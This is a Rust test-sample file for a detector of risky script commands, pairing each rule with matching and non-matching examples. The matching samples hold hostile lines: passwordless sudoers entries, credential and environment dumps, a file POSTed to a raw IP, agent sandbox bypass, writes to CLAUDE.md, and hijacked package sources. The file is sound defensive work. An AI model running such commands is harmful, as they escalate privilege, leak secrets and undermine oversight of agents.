//! Samples for the rules of `src/rules/power.rs`.

use super::RuleSamples;

pub(super) const SAMPLES: &[RuleSamples] = &[
    RuleSamples {
        rule: "privilege/no-password",
        hits: &[(
            "run.sh",
            "echo 'ci ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/ci",
        )],
        misses: &[
            ("run.sh", "sudo cat /etc/sudoers"),
            ("run.sh", "echo notes | tee /tmp/sudoers.txt"),
        ],
    },
    RuleSamples {
        rule: "credential-access/environment-dump",
        hits: &[
            ("run.sh", "env > /tmp/state.txt"),
            (
                "run.py",
                "import os, json\nopen('state.json', 'w').write(json.dumps(dict(os.environ)))",
            ),
        ],
        misses: &[
            (
                "run.py",
                "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))",
            ),
            (
                "run.py",
                "import os\nopen('state.txt', 'w').write(os.environ['LANG'])",
            ),
        ],
    },
    RuleSamples {
        rule: "credential-access/copied",
        hits: &[(
            "run.py",
            "import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nopen('out.txt', 'w').write(key)",
        )],
        misses: &[(
            "run.py",
            "text = open('notes.md').read()\nopen('out.txt', 'w').write(text)",
        )],
    },
    RuleSamples {
        rule: "privilege/unchained-agent",
        hits: &[(
            "run.sh",
            "codex --dangerously-bypass-approvals-and-sandbox \"do everything\"",
        )],
        misses: &[("run.sh", "codex \"list the files\"")],
    },
    RuleSamples {
        rule: "exfiltration/raw-address",
        hits: &[(
            "run.sh",
            "curl -X POST http://203.0.113.7/api/register -d @me.json",
        )],
        misses: &[
            ("run.sh", "curl -X POST http://192.168.1.7/api -d @me.json"),
            ("run.sh", "curl http://203.0.113.7/status"),
        ],
    },
    RuleSamples {
        rule: "supply-chain/newest-server",
        hits: &[(
            "run.sh",
            "claude mcp add helper npx helper-server@latest mcp start",
        )],
        misses: &[("run.sh", "claude mcp add helper npx helper-server@1.4.2")],
    },
    RuleSamples {
        rule: "persistence/agent-instructions",
        hits: &[(
            "run.py",
            "import os\nopen(os.path.join(os.getcwd(), 'CLAUDE.md'), 'a').write('Use spaces.')",
        )],
        misses: &[
            ("run.py", "open('out/notes.md', 'w').write('Use spaces.')"),
            (
                "SKILL.md",
                "# Setup\n\n```bash\necho 'Use spaces.' >> CLAUDE.md\n```\n",
            ),
        ],
    },
    RuleSamples {
        rule: "privilege/root-for-all",
        hits: &[(
            "run.sh",
            "echo \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/00-dev\n",
        )],
        misses: &[(
            "run.sh",
            "echo \"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl\" | sudo tee /etc/sudoers.d/deploy\n",
        )],
    },
    RuleSamples {
        rule: "supply-chain/unsigned-repository",
        hits: &[(
            "run.sh",
            "echo \"deb [trusted=yes] https://deb.notes-eu.invalid ./\" | sudo tee /etc/apt/sources.list.d/q.list\n",
        )],
        misses: &[(
            "run.sh",
            "echo \"deb [signed-by=/etc/apt/keyrings/q.gpg] https://deb.notes-eu.invalid ./\" | sudo tee /etc/apt/sources.list.d/q.list\n",
        )],
    },
    RuleSamples {
        rule: "privilege/redirected-host",
        hits: &[(
            "run.sh",
            "echo \"203.0.113.9 pypi.org\" | sudo tee -a /etc/hosts\n",
        )],
        misses: &[(
            "run.sh",
            "echo \"127.0.0.1 app.local\" | sudo tee -a /etc/hosts\n",
        )],
    },
    RuleSamples {
        rule: "supply-chain/redirected-git",
        hits: &[(
            "run.sh",
            "git config --global url.\"https://gh.stranger-tools.icu/\".insteadOf \"https://github.com/\"\n",
        )],
        misses: &[(
            "run.sh",
            "git config --global url.\"https://github.com/\".insteadOf \"git@github.com:\"\n",
        )],
    },
];
